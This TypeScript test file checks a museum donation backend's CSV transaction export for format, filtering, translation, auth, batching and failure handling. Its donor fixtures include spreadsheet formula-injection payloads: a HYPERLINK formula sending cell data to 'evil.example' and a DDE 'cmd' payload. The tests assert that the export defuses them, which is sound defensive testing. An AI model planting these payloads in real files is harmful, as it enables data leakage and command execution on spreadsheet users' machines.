/**
 * `GET /api/transaction/export` on both backends: the CSV is exactly what every page of the list
 * API shows, for each filter combination; the file's format (BOM, RFC 4180, headers); formula
 * injection; more rows than one storage batch; a storage failure mid-stream; auth and validation.
 */
import assert from "node:assert/strict";
import { formatInZone } from "@/lib/core/csv.ts";
import { newId } from "@/lib/core/ids.ts";
import { dayOf } from "@/lib/core/zoned_time.ts";
import { translator } from "@/lib/core/i18n.ts";
import type { Lang } from "@/lib/shared/languages.ts";
import type { Store, Transaction } from "@/lib/storage/types.ts";
import { startTestApp } from "@/tests/helpers/app.ts";
import { api, bearer } from "@/tests/helpers/http.ts";
import { backendTest } from "@/tests/helpers/stores.ts";

const EXPORT = "/api/transaction/export";
/** The museum's time zone: `MUSEUM_TIME_ZONE`'s default. */
const ZONE = "Asia/Jerusalem";
const SUCCESS = "/api/transaction/get-all-success-transactions";
const ERRORS = "/api/transaction/get-all-error-transactions";

/** Donors, among them names a spreadsheet would run as formulas, markup and RFC 4180 specials. */
const PEOPLE = [
  ["Dana", "Levi", "dana@example.org"],
  ["דוד", "כהן", "david@example.co.il"],
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "Mallory", "mallory@example.com"],
  ["<script>alert(1)</script>", "+972-50-0000000", "script@example.com"],
  ["@SUM(A1:A9)", "-2+3", "formula@example.com"],
  ["Ana, María", 'O"Brien', "ana@example.es"],
  ["Иван", "Петров", "ivan@example.ru"],
];

const BASE = Date.UTC(2026, 10, 1, 9, 0, 0);

/** 40 transactions, oldest first, a minute apart: a third errors, every other one monthly. */
function fixtures(): Transaction[] {
  return Array.from({ length: 40 }, (_, i) => {
    const [firstName, lastName, email] = PEOPLE[i % PEOPLE.length];
    const success = i % 3 !== 1;
    const currency = i % 4 === 0 ? 2 : 1;
    return {
      id: newId(),
      kind: success ? "success" : "error",
      statusCode: success ? "000" : ["003", "033", "004"][i % 3],
      isMonthly: i % 2 === 0,
      createdAt: new Date(BASE + i * 60_000).toISOString(),
      donorId: newId(),
      user: { firstName, lastName, email },
      amount: i === 7 ? null : 500 + i * 101,
      currency: i === 7 ? null : currency,
      resultData: success
        ? {
          CreditCardNumber: i === 3 ? "=cmd|' /C calc'!A0" : "458045******4580",
          CreditType: "1",
          DebitTotal: String(500 + i * 101),
          DebitCurrency: currency,
        }
        : null,
      errorMessage: success ? null : i % 2 ? 'Declined, "do not honour"\r\nCall the bank' : "-Invalid card",
      provider: "sandbox",
      providerTransactionId: `x-${i}`,
    } satisfies Transaction;
  });
}

/** A small RFC 4180 reader (records end with CRLF; quoted fields may hold anything). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      assert.equal(field, "", "a quote inside an unquoted field");
      quoted = true;
    } else if (c === ",") (record.push(field), (field = ""));
    else if (c === "\r" && text[i + 1] === "\n") {
      record.push(field), records.push(record), (record = []), (field = ""), i++;
    } else {
      assert.ok(c !== "\r" && c !== "\n", "a bare CR or LF outside quotes");
      field += c;
    }
  }
  assert.ok(!quoted && field === "" && record.length === 0, "the file ends with a complete record");
  return records;
}

/** What a spreadsheet must see for a cell we did not generate: formulas defused with a `'`. */
const inert = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const major = (minor: number | null) => (minor === null ? "" : (minor / 100).toFixed(2));

interface ListItem {
  id: string;
  statusCode: string;
  isMonthly: boolean;
  createdAt: string;
  user: { firstName: string; lastName: string; email: string };
  resultData?: { CreditCardNumber: string; CreditType: string; DebitTotal: string; DebitCurrency: 1 | 2 };
  errorMessage?: string | null;
  amount?: number | null;
  currency?: 1 | 2 | null;
  /** What was refunded of a gift (issue 16); null when nothing was. */
  refund?: { refunded: number; pending: number } | null;
}

/** The CSV record an item of the list API must become. */
function expectedRecord(item: ListItem, lang: Lang): string[] {
  const t = translator(lang);
  const success = item.resultData !== undefined;
  const amount = success ? Number(item.resultData!.DebitTotal) : item.amount ?? null;
  const currency = success ? item.resultData!.DebitCurrency : item.currency ?? null;
  return [
    formatInZone(item.createdAt, ZONE),
    t(success ? "export.status.success" : "export.status.error"),
    item.statusCode,
    inert(item.user.firstName),
    inert(item.user.lastName),
    inert(item.user.email),
    t(item.isMonthly ? "export.paymentType.monthly" : "export.paymentType.oneTime"),
    inert(item.resultData?.CreditCardNumber ?? ""),
    inert(item.resultData?.CreditType ?? ""),
    major(amount),
    currency === null ? "" : currency === 1 ? "ILS" : "USD",
    inert(item.errorMessage ?? ""),
    inert(item.id),
    success ? major(item.refund?.refunded ?? 0) : "",
    success ? major(item.refund?.pending ?? 0) : "",
  ];
}

backendTest("api: transaction export", async (t, open) => {
  const app = await startTestApp({ store: await open() });
  try {
    for (const tx of fixtures()) await app.store.transactions.record(tx);
    const first = await api(app.url, "POST", "/api/auth/admin/register", {
      email: "finance@museum.org",
      password: "ledger-and-ink-2026",
    });
    const pending = await api(app.url, "POST", "/api/auth/admin/register", {
      email: "intern@museum.org",
      password: "another-long-passphrase-9",
    });
    assert.equal(pending.body.status, "pending");
    const auth = bearer(first.body.accessToken);
    const download = (query: string, headers: Record<string, string> = auth) =>
      fetch(`${app.url}${EXPORT}${query ? `?${query}` : ""}`, { headers });

    /** Every item of a list, through every page of the list API. */
    const allItems = async (path: string, query: URLSearchParams): Promise<ListItem[]> => {
      const items: ListItem[] = [];
      for (let page = 1;; page++) {
        const q = new URLSearchParams(query);
        q.set("page", String(page));
        q.set("limit", "7");
        const res = await api(app.url, "GET", `${path}?${q}`, undefined, auth);
        assert.equal(res.status, 200);
        items.push(...res.body.data);
        if (items.length >= res.body.total) return items;
      }
    };

    /** The export's records (header first) and its raw bytes. */
    const exported = async (query: string) => {
      const res = await download(query);
      assert.equal(res.status, 200, query);
      const bytes = new Uint8Array(await res.arrayBuffer());
      assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 byte order mark");
      const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes.slice(3));
      return { res, records: parseCsv(text) };
    };

    await t.step("answers a CSV download that is never cached", async () => {
      const { res, records } = await exported("");
      assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
      const today = dayOf(Date.now(), ZONE);
      assert.equal(
        res.headers.get("content-disposition"),
        `attachment; filename="transactions-${today}.csv"`,
      );
      assert.equal(res.headers.get("cache-control"), "no-store");
      assert.ok(res.headers.get("x-request-id"));
      assert.deepEqual(records[0], [
        "Date (Asia/Jerusalem)",
        "Status",
        "Status code",
        "First name",
        "Last name",
        "Email",
        "Payment type",
        "Card number",
        "Credit type",
        "Amount",
        "Currency",
        "Error message",
        "Transaction ID",
        // Issue 16: after the spec's columns, so those keep their places.
        "Refunded",
        "Refund pending",
      ]);
      assert.equal(records.length, 1 + 40);
      assert.ok(records.every((r) => r.length === 15));
    });

    await t.step("rows equal every page of the lists, for each filter combination", async () => {
      for (const type of ["all", "success", "error"] as const) {
        for (const isMonthly of [undefined, "true", "false"]) {
          for (const searchString of [undefined, "LEVI", "example.co", "nobody"]) {
            const query = new URLSearchParams({ type });
            if (isMonthly) query.set("isMonthly", isMonthly);
            if (searchString) query.set("searchString", searchString);
            const success = type === "error" ? [] : await allItems(SUCCESS, query);
            const errors = type === "success" ? [] : await allItems(ERRORS, query);
            const items = [...success, ...errors].sort((a, b) => (a.createdAt < b.createdAt ? 1 : -1));
            const { records } = await exported(query.toString());
            assert.deepEqual(records.slice(1), items.map((item) => expectedRecord(item, "en")), `${query}`);
            if (searchString !== "nobody") assert.ok(items.length > 0, `${query} matches something`);
          }
        }
      }
    });

    await t.step("the header and words follow lang; Hebrew names round-trip", async () => {
      for (const lang of ["he", "ru", "pt", "es"] as const) {
        const { records } = await exported(`type=all&lang=${lang}`);
        const tr = translator(lang);
        assert.equal(records[0][0], tr("export.columns.date", { timeZone: ZONE }));
        assert.notEqual(records[0][0], "Date (Asia/Jerusalem)");
        const items = [
          ...await allItems(SUCCESS, new URLSearchParams()),
          ...await allItems(ERRORS, new URLSearchParams()),
        ]
          .sort((a, b) => (a.createdAt < b.createdAt ? 1 : -1));
        assert.deepEqual(records.slice(1), items.map((item) => expectedRecord(item, lang)), lang);
      }
      const { records } = await exported("searchString=%D7%93%D7%95%D7%93&lang=he");
      assert.ok(records.length > 1);
      for (const record of records.slice(1)) {
        assert.deepEqual(record.slice(3, 6), ["דוד", "כהן", "david@example.co.il"]);
        assert.ok(["הצלחה", "שגיאה"].includes(record[1]));
      }
    });

    await t.step("cells that would run as formulas start with ', markup stays text", async () => {
      const { records } = await exported("");
      const rows = records.slice(1);
      const mallory = rows.find((r) => r[4] === "Mallory")!;
      assert.equal(mallory[3], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
      const script = rows.find((r) => r[5] === "script@example.com")!;
      assert.deepEqual(script.slice(3, 5), ["<script>alert(1)</script>", "'+972-50-0000000"]);
      const formula = rows.find((r) => r[5] === "formula@example.com")!;
      assert.deepEqual(formula.slice(3, 5), ["'@SUM(A1:A9)", "'-2+3"]);
      assert.ok(rows.some((r) => r[7] === `'=cmd|' /C calc'!A0`), "card number cell");
      assert.ok(rows.some((r) => r[11] === "'-Invalid card"), "error message cell");
      assert.ok(
        rows.some((r) => r[11] === 'Declined, "do not honour"\r\nCall the bank'),
        "quotes, comma, CRLF",
      );
      assert.ok(rows.some((r) => r[3] === "Ana, María" && r[4] === 'O"Brien'));
      // No cell of ours starts with a formula character; amounts are plain numbers or empty.
      for (const r of rows) {
        for (const [i, cell] of r.entries()) {
          if (i !== 9) assert.ok(!/^[=+\-@\t\r]/.test(cell), `column ${i}: ${cell}`);
        }
        assert.match(r[9], /^(\d+\.\d\d)?$/);
      }
      assert.ok(rows.some((r) => r[9] === "" && r[10] === ""), "an unknown amount is empty");
    });

    await t.step("401 without or with a bad token, 403 for a pending admin: JSON messages", async () => {
      const cases: [Record<string, string>, number][] = [
        [{}, 401],
        [{ authorization: "Bearer nope" }, 401],
        [{ authorization: "Basic Zm9vOmJhcg==" }, 401],
        [bearer(pending.body.accessToken), 403],
      ];
      for (const [headers, status] of cases) {
        const res = await download("type=all", headers);
        assert.equal(res.status, status);
        assert.match(res.headers.get("content-type") ?? "", /^application\/json/);
        const body = await res.json();
        assert.equal(body.statusCode, status);
        assert.equal(typeof body.message, "string");
        assert.ok(body.message.length > 0);
      }
    });

    await t.step("bad parameters answer 400 naming the parameter", async () => {
      const cases: [string, RegExp][] = [
        ["type=both", /type must be all, success or error/],
        ["isMonthly=yes", /isMonthly must be true or false/],
        ["lang=fr", /lang must be en, he, ru, pt or es/],
        [`searchString=${"x".repeat(101)}`, /at most 100/],
        ["searchString=a%0Ab", /control characters/],
        ["type=all&type=error", /given more than once/],
      ];
      for (const [query, message] of cases) {
        const res = await download(query);
        assert.equal(res.status, 400, query);
        const body = await res.json();
        assert.equal(body.statusCode, 400);
        assert.match(body.message, message, query);
      }
    });
  } finally {
    await app.close();
  }
});

backendTest(
  "api: transaction export of more rows than one batch, and a storage failure mid-stream",
  async (t, open) => {
    const store = await open();
    // The app reads storage through this: with `failAfter` set, scan() calls fail once that many
    // have succeeded.
    let failAfter: number | null = null;
    let scans = 0;
    const flaky: Store = {
      ...store,
      transactions: {
        ...store.transactions,
        scan: (query) =>
          failAfter !== null && scans++ >= failAfter
            ? Promise.reject(new Error("storage went away"))
            : store.transactions.scan(query),
      },
    };
    const failing = (after: number | null) => {
      failAfter = after;
      scans = 0;
    };
    const app = await startTestApp({ store: flaky });
    try {
      const base = fixtures();
      const txs: Transaction[] = Array.from({ length: 1_260 }, (_, i) => ({
        ...base[i % 40],
        id: newId(),
        kind: i % 21 === 5 ? "error" : "success",
        statusCode: i % 21 === 5 ? "033" : "000",
        createdAt: new Date(BASE + i * 1000).toISOString(),
        providerTransactionId: `bulk-${i}`,
        user: { firstName: `Donor${i}`, lastName: "Bulk", email: `bulk${i}@example.org` },
      }));
      for (let i = 0; i < txs.length; i += 1000) await store.transactions.import(txs.slice(i, i + 1000));
      const successes = txs.filter((tx) => tx.kind === "success");
      assert.equal(successes.length, 1_200);
      const admin = await api(app.url, "POST", "/api/auth/admin/register", {
        email: "finance@museum.org",
        password: "ledger-and-ink-2026",
      });
      const auth = bearer(admin.body.accessToken);

      await t.step("every matching row, not one page or one batch", async () => {
        for (const [query, expected] of [["type=all", txs], ["type=success", successes]] as const) {
          const res = await fetch(`${app.url}${EXPORT}?${query}`, { headers: auth });
          assert.equal(res.status, 200);
          const text = await res.text(); // text() drops the BOM
          // Ids are base64url: one starting with "-" is written with a leading ' like any such cell.
          const ids = parseCsv(text).slice(1).map((r) => r[12].replace(/^'-/, "-"));
          assert.deepEqual(ids, [...expected].reverse().map((tx) => tx.id), query);
        }
      });

      await t.step(
        "a failure after the first rows aborts the body and is logged; nothing hangs",
        async () => {
          failing(1); // the first batch (read before answering) succeeds, the second fails
          let timer: ReturnType<typeof setTimeout> | undefined;
          try {
            const res = await fetch(`${app.url}${EXPORT}?type=success`, { headers: auth });
            assert.equal(res.status, 200);
            const deadline = new Promise<never>((_, reject) => {
              timer = setTimeout(() => reject(new Error("the body hangs")), 10_000);
            });
            await assert.rejects(
              () => Promise.race([res.arrayBuffer(), deadline]),
              (error: Error) => error.message !== "the body hangs",
            );
            const line = app.logs.find((l) => l.msg === "transaction export failed after it began");
            assert.ok(line, "the failure is logged");
            assert.equal(line.level, "error");
            assert.equal(line.requestId, res.headers.get("x-request-id"));
            assert.match(JSON.stringify(line.error), /storage went away/);
          } finally {
            clearTimeout(timer);
            failing(null);
          }
        },
      );

      await t.step("a failure before the first rows answers a JSON 500", async () => {
        failing(0);
        try {
          const res = await fetch(`${app.url}${EXPORT}`, { headers: auth });
          assert.equal(res.status, 500);
          assert.equal((await res.json()).statusCode, 500);
        } finally {
          failing(null);
        }
      });
    } finally {
      await app.close();
    }
  },
);
